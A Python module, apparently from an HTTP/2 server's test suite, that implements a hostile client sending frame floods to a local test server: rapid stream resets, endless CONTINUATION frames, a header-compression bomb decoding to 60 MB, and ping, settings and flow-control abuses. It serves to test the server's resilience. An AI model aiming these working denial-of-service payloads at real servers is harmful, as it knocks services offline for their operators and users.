"""The octets of a hostile client of HTTP/2: each flood is a function of the number of its portion."""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import struct
from collections.abc import Iterable
from typing import Any, Callable

from .client import RawClient
from .http2_frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PRIORITY_UPDATE,
    RESET,
    SETTINGS,
    WINDOW,
    frame,
    section,
    setting,
)

COUNT = 50  # frames, or pairs of them, of a portion


def streams(number: int) -> Iterable[int]:
    """Return the numbers of the streams of a portion; the first stream of all is another's."""
    return range(3 + 2 * COUNT * number, 3 + 2 * COUNT * (number + 1), 2)


def each(make: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """Return the flood with these octets for each new stream."""
    return lambda number: b"".join(make(stream) for stream in streams(number))


def same(octets: bytes, first: bytes = b"") -> Callable[[int], bytes]:
    """Return the flood that repeats these octets, after a first part."""
    return lambda number: octets * COUNT if number else first + octets * COUNT


def get(stream: int, path: bytes = b"/") -> bytes:
    """Return a whole request."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, section(b"GET", path))


def bomb(number: int) -> bytes:
    """Return a field section of 60 MB when decoded: a large field in the table, and references to it."""
    large = b"\x40\x01a\x7f" + _rest_of(4000 - 127) + b"x" * 4000
    return frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * number, section() + large + b"\xbe" * 15_000)


def _rest_of(count: int) -> bytes:
    octets = b""
    while count >= 128:
        octets, count = octets + bytes([count % 128 + 128]), count // 128
    return octets + bytes([count])


POST = frame(HEADERS, END_HEADERS, 1, section(b"POST", b"/"))
UPDATE, FULL = struct.pack("!I", 1), struct.pack("!I", (1 << 31) - 1)
LARGE, MANY = b"/big?1000000", range(1, 200, 2)
ZERO_WINDOWS = frame(SETTINGS, 0, 0, setting(4, 0)) + b"".join(get(stream, LARGE) for stream in MANY)
FLOODS: dict[str, Callable[[int], bytes]] = {
    "requests that are reset at once": each(lambda stream: get(stream) + frame(RESET, 0, stream, struct.pack("!I", 8))),
    "requests that make the server reset": each(lambda stream: get(stream) + frame(WINDOW, 0, stream, FULL)),
    "malformed requests": each(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, section(b"GET", b"/", (b"te", b"x")))),
    "requests beyond --max-streams": lambda number: b"" if number else b"".join(get(stream, LARGE) for stream in range(1, 4001, 2)),
    "a field section without an end": same(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, section())),
    "a large field section without an end": same(frame(CONTINUATION, 0, 1, bytes(16384)), frame(HEADERS, 0, 1, section())),
    "fields that unpack to 60 MB": bomb,
    "pings": same(frame(PING, 0, 0, bytes(8))),
    "acknowledgements of pings": same(frame(PING, ACK, 0, bytes(8))),
    "settings": same(frame(SETTINGS, 0, 0)),
    "acknowledgements of settings": same(frame(SETTINGS, ACK, 0)),
    "settings that are unknown": lambda number: frame(
        SETTINGS, 0, 0, b"".join(setting(100 + (number * 2000 + at) % 60_000, 1) for at in range(2000))
    ),
    "windows of 100 streams, larger and smaller": same(
        frame(SETTINGS, 0, 0, setting(4, 0)) + frame(SETTINGS, 0, 0, setting(4, 1)), ZERO_WINDOWS
    ),
    "windows that stay empty": lambda number: b"" if number else ZERO_WINDOWS,
    "windows of one octet": same(frame(WINDOW, 0, 1, UPDATE), frame(SETTINGS, 0, 0, setting(4, 0)) + get(1, LARGE)),
    "updates of windows": same(frame(WINDOW, 0, 0, UPDATE)),
    "updates of windows of streams that are closed": same(frame(WINDOW, 0, 1, UPDATE), get(1) + frame(RESET, 0, 1, bytes(4))),
    "data for streams that are closed": same(frame(DATA, 0, 1), get(1) + frame(RESET, 0, 1, bytes(4))),
    "empty data": same(frame(DATA, 0, 1), POST),
    "padding": same(frame(DATA, 8, 1, b"\xff" + bytes(255)), POST),
    "data of one octet": same(frame(DATA, 0, 1, b"x"), POST),
    "priorities": same(frame(PRIORITY, 0, 1, bytes(5))),
    "updates of priorities": same(frame(PRIORITY_UPDATE, 0, 0, struct.pack("!I", 1) + b"u=1")),
    "unknown frames": same(frame(0x20, 0, 0)),
    "100 bodies that do not come": lambda number: b"" if number else b"".join(
        frame(HEADERS, END_HEADERS, stream, section(b"POST", b"/")) for stream in MANY
    ),
}  # fmt: skip
# Floods that the server need not end: they cost no more than other slow clients.
ENDLESS = {"windows that stay empty", "data of one octet", "100 bodies that do not come"}


class Flooder:
    """A client that sends one flood."""

    def __init__(self, address: Any, name: str) -> None:
        self._address, self._make = address, FLOODS[name]
        self.sent_bytes = self.connections = 0

    def run(self, is_over: Callable[[], bool]) -> bool:
        """Send on one connection until the flood is over; return whether the server has ended it before."""
        self.connections += 1
        context = ssl.create_default_context(cafile=RawClient.authority)
        context.set_alpn_protocols(["h2"])
        try:
            plain = socket.create_connection(self._address, 10)
            with context.wrap_socket(plain, server_hostname="localhost") as client:
                client.sendall(PREFACE + frame(SETTINGS, 0, 0))
                client.setblocking(False)
                number, waiting = 0, b""
                while not is_over():
                    if not waiting:
                        waiting = self._make(number)
                        number += 1
                    left = self._move(client, waiting)
                    if left is None:
                        return True
                    waiting = left
        except OSError:
            return True
        return False

    def _move(self, client: ssl.SSLSocket, octets: bytes) -> bytes | None:
        """Read received octets, and send as much as there is room for; return the rest, None if the server has ended the connection."""
        with contextlib.suppress(ssl.SSLWantReadError):
            while True:
                if not client.recv(1 << 16):
                    return None
        if not octets:
            select.select([client], [], [], 0.02)
            return octets
        try:
            count = client.send(octets)
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            select.select([client], [client], [], 0.02)
            return octets
        self.sent_bytes += count
        return octets[count:]
